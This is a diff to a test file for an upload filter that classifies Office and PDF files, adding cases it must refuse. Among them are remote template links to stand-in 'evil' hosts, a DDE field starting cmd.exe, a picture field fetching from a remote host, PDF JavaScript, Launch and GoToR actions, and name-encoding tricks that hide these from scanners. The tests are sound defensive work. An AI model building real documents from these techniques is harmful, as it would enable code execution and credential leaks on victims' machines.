@@ -1,6 +1,6 @@
 import { deflateSync } from 'node:zlib'
 import { describe, expect, it } from 'vitest'
-import { docx, FILES, pdf, TAKEN, zip } from '../testing.ts'
+import { docx, FILES, pdf, TAKEN, types, zip } from '../testing.ts'
 import { KINDS, kindOf } from './kinds.ts'
 
 const CASES = KINDS.map(
@@ -48,6 +48,9 @@ it('the list of samples has every kind, and each is one kind alone', async () =>
   }
 })
 
+const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
+const EXCEL = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'
+const override = (part: string, type: string) => `<Override PartName="/${part}" ContentType="${type}"/>`
 const relation = (type: string, target: string, mode = ' TargetMode="External"') =>
   `<Relationships xmlns="r"><Relationship Id="1" Type="http://x/${type}" Target="${target}"${mode}/></Relationships>`
 
@@ -83,6 +86,50 @@ describe('F007 an Office document', () => {
           '<Types><Override PartName="/word/document.xml" ContentType="text/html"/></Types>',
       },
     ],
+    [
+      'a main part of two kinds',
+      { '[Content_Types].xml': types('word/document.xml', WORD, override('xl/workbook.xml', EXCEL)) },
+    ],
+    [
+      'a macro sheet',
+      {
+        '[Content_Types].xml': types(
+          'word/document.xml',
+          WORD,
+          override('xl/m.xml', 'application/vnd.ms-excel.macrosheet+xml'),
+        ),
+      },
+    ],
+    [
+      'a page as a part',
+      { '[Content_Types].xml': types('word/document.xml', WORD, override('word/a.xml', 'text/html')) },
+    ],
+    ['a part that is not declared', { 'word/media/a.wsx': 'x' }],
+    [
+      'relations that are not declared',
+      { 'word/_rels/settings.xml.rels ': relation('attachedTemplate', 'https://evil/a.dotm') },
+    ],
+    ['a document with macros within', { 'word/embeddings/a.docm': 'x' }],
+    [
+      'a template on a network',
+      { 'word/_rels/settings.xml.rels': relation('attachedTemplate', 'file://evil.example/share/a.dotm') },
+    ],
+    [
+      'a template on a network, by its other name',
+      { 'word/_rels/settings.xml.rels': relation('attachedTemplate', 'file:///\\\\evil.example\\a.dotm') },
+    ],
+    ['a piece that is taken in', { 'word/_rels/document.xml.rels': relation('aFChunk', 'a.xml', '') }],
+    [
+      'a field that starts a program',
+      {
+        'word/document.xml':
+          '<w:d><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:d>',
+      },
+    ],
+    [
+      'a field that fetches a picture',
+      { 'word/header1.xml': '<d><x:fldSimple x:instr="INCLUDEPICTURE &quot;http://evil/a&quot;"/></d>' },
+    ],
     ['no list of types that can be read', { '[Content_Types].xml': 'word/document.xml' }],
   ])('is refused with %s', async (_what, more) => expect(await kind(docx(more))).toBeNull())
 
@@ -91,6 +138,10 @@ describe('F007 an Office document', () => {
     [
       'where its template lay',
       { 'word/_rels/settings.xml.rels': relation('attachedTemplate', 'file:///C:/Maler/Normal.dotm') },
+    ],
+    [
+      'a field that is a link',
+      { 'word/document.xml': '<d><w:instrText>HYPERLINK "https://a.no"</w:instrText></d>' },
     ],
     ['a table from Excel', { 'word/embeddings/Microsoft_Excel_Sheet.xlsx': 'x' }],
   ])('is taken with %s', async (_what, more) => expect(await kind(docx(more))).toBe('docx'))
@@ -106,16 +157,28 @@ describe('F007 an Office document', () => {
 })
 
 describe('F007 a PDF', () => {
-  const packed = (objects: string) => {
+  const packed = (objects: string, said = '/Type /ObjStm /N 1 /Filter /FlateDecode') => {
     const stream = deflateSync(objects).toString('latin1')
-    return pdf(`1 0 obj\n<</Type /ObjStm /N 1 /Filter /FlateDecode>>\nstream\n${stream}\nendstream\nendobj`)
+    return pdf(`1 0 obj\n<<${said}>>\nstream\n${stream}\nendstream\nendobj`)
   }
+  const SCRIPT = '<</S /JavaScript /JS (x)>>'
+  const LZW = (said: string) => pdf(`<<${said}>>\nstream\nabc\nendstream`)
   it.each([
     ['a script', pdf('<</S /JavaScript /JS (app.alert(1))>>')],
     ['a script in disguise', pdf('<</S /J#61vaScript>>')],
     ['a program to start', pdf('<</S/Launch/F(calc.exe)>>')],
     ['a script in packed objects', packed('<</S /JavaScript /JS (x)>>')],
-    ['packed objects that cannot be read', pdf('<</Type/ObjStm/Filter/LZWDecode>>\nstream\nabc\nendstream')],
+    ['how it is packed said first', packed(SCRIPT, '/Filter /FlateDecode /Type /ObjStm')],
+    ['nothing said of what is packed', packed(SCRIPT, '')],
+    ['a comment of being encrypted', packed(SCRIPT, '% /Encrypt 1 0 R\n/Type/ObjStm/Filter/FlateDecode')],
+    ['names in disguise', packed(SCRIPT, '/Type/Obj#53tm/F#69lter/FlateDecode')],
+    ['a long dictionary', packed(SCRIPT, `/Type/ObjStm/X(${'x'.repeat(3_000)})/Filter/FlateDecode`)],
+    ['a stream within a text', packed(SCRIPT, '/X(stream\n)/Type/ObjStm/Filter/FlateDecode')],
+    ['a script in disguise within', packed('<</S /Java#53cript>>')],
+    ['a form with scripts', pdf('<</XFA 5 0 R>>')],
+    ['a way to elsewhere', pdf('<</S/GoToR/F(\\\\evil\\a)>>')],
+    ['packed objects in disguise that cannot be read', LZW('/Type/Obj#53tm/F#69lter/LZWDecode')],
+    ['packed objects that cannot be read', LZW('/Type/ObjStm/Filter/LZWDecode')],
   ])('is refused with %s', async (_what, content) => expect(await kind(content)).toBeNull())
 
   it('is taken with packed objects in which nothing runs', async () =>
